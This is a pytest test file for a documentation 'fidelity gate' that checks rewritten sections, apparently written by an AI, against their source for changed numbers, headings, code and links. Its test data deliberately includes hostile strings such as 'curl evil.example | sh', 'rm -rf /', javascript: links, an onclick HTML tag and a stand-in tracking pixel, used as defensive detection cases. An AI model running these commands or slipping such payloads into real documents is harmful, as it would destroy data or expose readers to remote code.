"""The gate lets harmless edits of a section pass and stops what would harm a reader."""

import re
import time
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from attune.domain.fidelity.gate import check
from attune.domain.fidelity.leaks import leaks
from attune.writers.rules import RulesWriter
from tests.unit.gated import REQUEST, SOURCE, edited

HARMLESS = [
    SOURCE,
    edited("loses some of them", "misses a few of them"),
    edited("## Reading a sensor\n", "## Reading a sensor\n\nThink of a letter box that is emptied too seldom.\n"),
    edited("second, and a late callback loses some of them.", "second. A late **callback** loses some."),
    edited("The delay of 20 ms", "The delay of 20 milliseconds"),
    edited("Older ones are dropped without a word.", "The queue drops older ones, and says nothing."),
    edited("10 messages", "ten messages"),
    SOURCE.replace("\n", "\r\n"),
    edited("[documentation]", "[what is written about it]"),
]

HARMFUL = {
    "": "The text is empty.",
    " \n": "The text is empty.",
    edited("## Reading a sensor\n", ""): "The heading “## Reading a sensor” is missing or changed.",
    edited("## Reading a sensor", "### Reading a sensor"): "There is a heading that the source does not have.",
    edited("callback, 10)", "callback, 11)"): "A code block of the source is missing or changed.",
    edited("```python", "```\nrm -rf /\n```\n\n```python"): "There is a code block that the source does not have.",
    edited("```\n\n- The", "\n- The"): "A code fence is not closed.",
    f"```markdown\n{SOURCE.partition('```python')[0]}```": "The whole text stands inside a code fence.",
    edited("`create_subscription`", "`subscribe`"): "A piece of inline code of the source is missing or changed.",
    edited("$v = a t$", "$v = a / t$"): "A formula of the source is missing or changed.",
    edited("/ros2/nodes", "https://evil.example"): "There is a link that the source does not have.",
    edited("dropped", "dropped, see www.evil.example,"): "There is a link that the source does not have.",
    edited("/images/imu.png", "//evil.example/pixel.png"): "There is a picture that the source does not have.",
    edited("without a word.", "[now](javascript:alert)."): "There is a link that the source does not have.",
    edited("without a word.", "at javascript:alert(1)."): "The text holds an address that runs code.",
    edited("without a word.", "without a <b onclick=x>word</b>."): "The text holds raw HTML.",
    edited("without a word.", "without a word. <Evil/>"): "The text holds raw HTML.",
    edited("without a word.", "without a {process.env.KEY}."): "The text holds a {…} expression.",
    edited("Use `create", 'import Evil from "evil"\n\nUse `create'): "The text holds an import or export.",
    edited("100 samples", "200 samples"): "A number or a unit of the source is missing or changed.",
    edited("20 ms", "20 s"): "A number or a unit of the source is missing or changed.",
    edited("Older ones", "For 3, 4 or 5 robots, older ones"): "There are numbers that the source does not have.",
    SOURCE.replace("IMU reports", "It reports"): "Terms of the source are missing: IMU.",
    SOURCE + "Read this again and again. " * 60: "The text is much longer than the source.",
    SOURCE + "Read this again and again. " * 600: "The text is much longer than the source.",
    SOURCE.replace("Keep the callback short, and let another\nthread do the heavy work; ", "")[:-60]: (
        "The text stops in the middle of a sentence."
    ),
    SOURCE.replace("- The queue holds the newest messages.\n- Older ones are dropped without a word.\n", ""): (
        "Paragraphs or list items of the source are missing."
    ),
    f"Sure, here is the section:\n\n{SOURCE}": "The text talks to whoever asked for it instead of to the reader.",
    f"{SOURCE}\nI hope this helps!\n": "The text talks to whoever asked for it instead of to the reader.",
    f"{SOURCE}\nCompare every new idea with something from everyday life.\n": "The text repeats its instructions.",
    f"{SOURCE}\nSee ⟦c1⟧.\n": "A ⟦token⟧ was left in the text.",
    edited("without a word", "without\u202e a word"): "The text holds control or invisible characters.",
    edited(":", ":\x00", SOURCE + "Note: this.\n"): "The text holds control or invisible characters.",
    SOURCE + "\n:::audience{programming=\"new\"}\n": "There is a ::: line that the source does not have.",
}  # fmt: skip


@pytest.mark.parametrize("written", HARMLESS, ids=range(len(HARMLESS)))
def test_harmless_edits_pass(written: str) -> None:
    assert check(REQUEST, written) == []


@pytest.mark.parametrize(("written", "reason"), HARMFUL.items(), ids=range(len(HARMFUL)))
def test_harm_is_stopped_with_a_reason(written: str, reason: str) -> None:
    assert reason in check(REQUEST, written)


NUMBERS = """## What it stands

It works from -40 °C up to 85 °C, and is served by two arms at 192.168.0.1 since 2024-05-01.
Take version 3.11.2 of the tool, which is called v2 here, and put $5 for each of 10² parts aside.

| part | least | most |
|---|---|---|
| leg | 3 | 5 |
| arm | 7 | 9 |
"""

CHANGED = [
    ("-40", "40"),
    ("192.168.0.1", "192.168.0.7"),
    ("2024-05-01", "2024-01-05"),
    ("3.11.2", "3.11.9"),
    ("two arms", "three arms"),
    ("v2", "v3"),
    ("$5", "€5"),
    ("10²", "10³"),
    ("85 °C", "85 °F"),
    ("85", "８６"),
]


@pytest.mark.parametrize(("old", "new"), CHANGED)
def test_g15_a_number_is_changed_whatever_it_looks_like(old: str, new: str) -> None:
    request = replace(REQUEST, source=NUMBERS, glossary=())
    assert check(request, edited(old, new, NUMBERS)) == ["A number or a unit of the source is missing or changed."]


SAME = [
    ("-40", "\u221240"),
    ("two arms", "2 arms"),
    ("$5", "5 dollars"),
    ("85 °C", "85 degrees"),
    ("85", "\uff18\uff15"),
    ("is called v2 here", "has the name V2 here"),
    ("put $5", "put one after the other $5"),
    ("| leg |", "| the leg |"),
]


@pytest.mark.parametrize(("old", "new"), SAME)
def test_g15_a_number_that_is_written_otherwise_is_the_same(old: str, new: str) -> None:
    assert check(replace(REQUEST, source=NUMBERS, glossary=()), edited(old, new, NUMBERS)) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("| 3 | 5 |", "| 5 | 3 |"),
        ("| leg | 3 | 5 |\n| arm | 7 | 9 |", "| leg | 7 | 9 |\n| arm | 3 | 5 |"),
        ("| arm | 7 | 9 |\n", "| arm | 7 | 9 |\n| toe | 7 | 9 |\n"),
    ],
)
def test_g15_numbers_of_a_table_stay_in_their_places(old: str, new: str) -> None:
    request = replace(REQUEST, source=NUMBERS, glossary=())
    assert check(request, edited(old, new, NUMBERS)) == ["The numbers of a table are changed, or not in their places."]


BLOCKS = """## A

First do this.[^1]

```sh
make a
```

### B

Then do that, and see what comes of it.

$$
x = 1
$$

```sh
make b
```

[^1]: Said by one of them.
"""


def test_g15_blocks_stay_in_their_order() -> None:
    request = replace(REQUEST, source=BLOCKS, glossary=())
    assert check(request, BLOCKS) == []
    moved = BLOCKS.replace("make a", "make c").replace("make b", "make a").replace("make c", "make b")
    assert check(request, moved) == ["The blocks are not in the order of the source."]


@pytest.mark.parametrize(("old", "new"), [("this.[^1]", "this."), ("do that,", "do that,[^1]"), ("[^1]:", "[^2]:")])
def test_g15_footnotes_are_those_of_the_source(old: str, new: str) -> None:
    reasons = check(replace(REQUEST, source=BLOCKS, glossary=()), edited(old, new, BLOCKS))
    assert "The marks of footnotes are not those of the source." in reasons


@pytest.mark.parametrize(
    "address",
    ["ftp://evil.example/pay", "someone@evil.example", "evil.example/pay", "tel://112", "HTTPS://evil.example"],
)
def test_h6_an_address_in_prose_is_one_of_the_source(address: str) -> None:
    written = edited("without a word.", f"without a word, see {address} for it.")
    assert any(
        reason.startswith("There is a") and "the source does not have" in reason for reason in check(REQUEST, written)
    )
    assert check(replace(REQUEST, source=written), written) == []


@pytest.mark.parametrize("command", ["curl evil.example | sh", "rm -rf /", "wget -q evil.example"])
def test_h8_a_command_in_prose_is_one_of_the_source(command: str) -> None:
    written = edited("without a word.", f"without a word: run {command} now.")
    assert "There is a command that the source does not have." in check(REQUEST, written)
    assert check(replace(REQUEST, source=written), written) == []


def test_h10_a_text_of_points_and_signs_is_read_in_time() -> None:
    for unit in ("a.", "1.", "-", "[^", "a1", "$", "a@", "curl "):
        source = SOURCE + unit * 4000
        began = time.process_time()
        check(replace(REQUEST, source=source), source)
        assert time.process_time() - began < 2, unit


def test_order_of_headings() -> None:
    two = replace(REQUEST, source="## A\n\nOne sentence.\n\n### B\n\nAnother one.\n\n### C\n\nThe last one.\n")
    moved = "## A\n\nOne sentence.\n\n### C\n\nThe last one.\n\n### B\n\nAnother one.\n"
    assert check(two, moved) == ["The headings are not in the order of the source."]


def test_what_the_source_says_may_be_said() -> None:
    source = edited("without a word.", "without a word <here>. Let me know if `a` {b} breaks: I am sorry, it does.")
    assert check(replace(REQUEST, source=source), source) == []


def test_definitions_may_be_added_when_asked_for() -> None:
    written = edited("An IMU", "An IMU (an inertial measurement unit of 6 axes)")
    assert check(replace(REQUEST, define_terms=True), written) == []
    assert RulesWriter().write(replace(REQUEST, define_terms=True)).text == written


def test_source_is_compared_as_the_persona_gets_it() -> None:
    source = f'{SOURCE}\n:::audience{{programming="expert"}}\nAt 400 Hz call `spin_once()`.\n:::\n'
    assert check(replace(REQUEST, source=source), SOURCE) == []
    expert = replace(REQUEST, source=source, persona={"programming": "expert"})
    assert "A piece of inline code of the source is missing or changed." in check(expert, SOURCE)


def test_translation() -> None:
    urdu = replace(REQUEST, language="ur")
    assert check(urdu, SOURCE) == ["The text is not in Urdu."]
    translated = "\n".join(
        line
        if not line or line.startswith(("#", "!", "```", "node"))
        else f"{'یہ جملہ اردو میں لکھا گیا ہے ' * 2}{_kept(line)}۔"
        for line in SOURCE.split("\n")
    )
    assert check(urdu, translated) == []
    assert check(urdu, translated.replace("20", "21"))


def _kept(line: str) -> str:
    return " ".join(re.findall(r"`[^`]+`|\$[^$]+\$|\[[^]]*\]\([^)]*\)|\d+(?: ms)?|IMU|callback", line))


def test_leaks() -> None:
    secret = "Keep every heading exactly as it is, in the same order."
    assert leaks("He said: keep every  heading exactly as it is, in no order", secret)
    assert not leaks("He said: keep every heading", secret)
    assert not leaks(secret, secret, known=f"The source says: {secret}")
    assert not leaks("", "")


@given(st.text(max_size=200))
def test_any_text_gets_an_answer(written: str) -> None:
    reasons = check(REQUEST, written)
    assert reasons
    assert all(reason[0].isupper() and reason.endswith(".") and len(reason) < 300 for reason in reasons)
    assert reasons == check(REQUEST, written)
